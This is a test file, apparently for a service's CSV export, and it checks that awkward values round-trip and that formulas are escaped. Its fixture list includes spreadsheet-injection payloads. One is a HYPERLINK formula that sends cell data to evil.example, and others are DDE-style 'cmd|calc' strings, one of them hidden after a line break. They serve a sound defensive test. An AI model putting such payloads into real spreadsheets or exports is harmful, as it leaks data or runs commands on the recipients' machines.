import { afterAll, beforeAll, describe, expect, test } from 'bun:test';
import { parse } from 'csv-parse/sync';
import { DIALECTS } from './support/databases.ts';
import { startTestService, type TestService } from './support/test-service.ts';

/** Every value a CSV writer can get wrong: line breaks of each kind, quotes, delimiters, formulas, blanks, scripts, empty vs none. */
const AWKWARD: unknown[] = [
  'line one\nline two',
  'old mac\rline',
  'windows\r\nline',
  'ends with a break\n',
  'He said "hi", then left',
  'a, b, c',
  '"',
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  '+1+cmd|calc',
  '-2+3',
  '@SUM(A1)',
  "'=already guarded by hand",
  "Acme Corp\n=cmd|' /C calc'!A0",
  '\tleading tab',
  'tab\tinside',
  ' padded both sides ',
  'Crème brûlée, Ærøskøbing, 東京, Привет, مرحبا',
  '🍮 emoji 👩‍👩‍👧 with a family',
  '',
  null,
  '-12.5',
  '007',
  12.5,
  -3,
  true,
  { k: 'v', n: [1, 2] },
];

/** What a cell's value is as CSV text: strings as they are, other values as the table shows them. */
const asText = (v: unknown) => (v === null || typeof v === 'string' ? v : typeof v === 'object' ? JSON.stringify(v) : String(v));

/** An export reads back, with any CSV parser and through the import, as the same rows and cells (docs/enrichment.md, Export). */
describe.each(DIALECTS)('CSV export round trip on %s', (dialect) => {
  let t: TestService;
  let projectId: string;

  beforeAll(async () => {
    t = await startTestService(dialect);
    const made = await t.api('POST', '/projects', {
      body: { builder_id: 'csv_import_builder', form_data: { csv_text: 'Name,Notes,Domain\nSeed,,seed.example.com' }, name: 'Awkward' },
    });
    projectId = made.body.project_id;
    await t.api('GET', `/projects/${projectId}/wait?wait_seconds=20`);
    const added = await t.api('POST', `/projects/${projectId}/rows/batch`, {
      body: { rows: AWKWARD.map((v, i) => ({ Name: `Row ${i}`, Notes: v, Domain: `c${i}.example.com` })) },
    });
    expect(added.status).toBeLessThan(300);
    // A tool column whose results are records: exported as their primary value (industry), or whole with values=json.
    await t.api('POST', `/projects/${projectId}/columns`, {
      body: { name: 'Company', tool_id: 'company_enrich', config: { domain: '{{Domain}}' } },
    });
    await t.api('POST', `/projects/${projectId}/columns/run`, { body: {} });
    await t.api('GET', `/projects/${projectId}/wait?wait_seconds=30`);
  });
  afterAll(() => t.stop());

  const download = async (query = '') => {
    const r = await fetch(`${t.url}/projects/${projectId}/export.csv${query}`, { headers: { 'service-api-key': t.key } });
    expect(r.status).toBe(200);
    return r.text();
  };
  const rowsOf = async (id: string) => {
    const page = await t.api('GET', `/projects/${id}/rows?page_size=100&format=values&sort_rules=${encodeURIComponent('[]')}`);
    expect(page.status).toBe(200);
    return page.body.rows.map((r: any) => r.values) as Record<string, unknown>[];
  };

  test('a standard CSV parser reads one record per row, every awkward value whole', async () => {
    const text = await download('?escape_formulas=0');
    // An empty field is no value; a quoted empty field ("") is the empty text.
    const records = parse(text, { columns: true, cast: (v, c) => (v === '' && !c.quoting ? null : v) }) as Record<string, string | null>[];
    expect(records.length).toBe(AWKWARD.length + 1);
    expect(records.slice(1).map((r) => r.Notes)).toEqual(AWKWARD.map(asText));
    // Every line break inside a value is inside quotes: a reader that splits on bare LF finds no extra record start.
    expect(text).toContain('"line one\nline two"');
    expect(text).toContain('"old mac\rline"');
    expect(text).toContain('" padded both sides "');
  });

  test('the formula guard holds across a line break: the second line never starts a record', async () => {
    const text = await download();
    const records = parse(text, { columns: true }) as Record<string, string>[];
    const notes = records.slice(1).map((r) => r.Notes);
    expect(notes).toContain("Acme Corp\n=cmd|' /C calc'!A0");
    expect(notes).toContain('\'=HYPERLINK("http://evil.example/?"&A1,"x")');
    expect(notes).toContain("''=already guarded by hand");
    expect(notes).toContain('-12.5'); // numbers are not formulas
    // The line break is inside the quoted field: a spreadsheet opens one cell of text, not a second row with a formula.
    expect(text).toContain('"Acme Corp\n=cmd|\' /C calc\'!A0"');
  });

  test('tool results export their primary value by default, the whole result with values=json', async () => {
    const listed = await rowsOf(projectId);
    const company = listed.find((r) => r.Name === 'Row 0')?.Company as Record<string, unknown>;
    expect(typeof company?.industry).toBe('string');
    const primary = parse(await download(), { columns: true }) as Record<string, string>[];
    expect(primary.find((r) => r.Name === 'Row 0')?.Company).toBe(String(company.industry));
    const whole = parse(await download('?values=json'), { columns: true }) as Record<string, string>[];
    expect(JSON.parse(whole.find((r) => r.Name === 'Row 0')?.Company as string)).toEqual(company);
    const bad = await fetch(`${t.url}/projects/${projectId}/export.csv?values=xml`, { headers: { 'service-api-key': t.key } });
    expect(bad.status).toBe(422);
    expect((await bad.json()).detail.message).toContain('values');
  });

  test('an export imported again (POST /projects/import.csv) is the same rows and cells', async () => {
    const original = await rowsOf(projectId);
    const text = await download(); // formulas guarded, as a user downloads it
    const r = await fetch(`${t.url}/projects/import.csv`, {
      method: 'POST',
      headers: { 'service-api-key': t.key, 'content-type': 'text/csv' },
      body: text,
    });
    expect(r.status).toBe(201);
    const copy = (await r.json()).project_id as string;
    const done = await t.api('GET', `/projects/${copy}/wait?wait_seconds=30`);
    expect(done.body.builder?.type ?? done.body.builder_status?.type ?? 'completed').toBe('completed');
    const imported = await rowsOf(copy);
    expect(imported.length).toBe(original.length);
    imported.forEach((row, i) => {
      const from = original[i] as Record<string, unknown>;
      expect(row.Name).toBe(from.Name);
      expect(row.Notes).toBe(asText(from.Notes));
      expect(row.Domain).toBe(from.Domain);
      expect(row.Company).toBe(String((from.Company as Record<string, unknown>).industry));
    });
  });
});
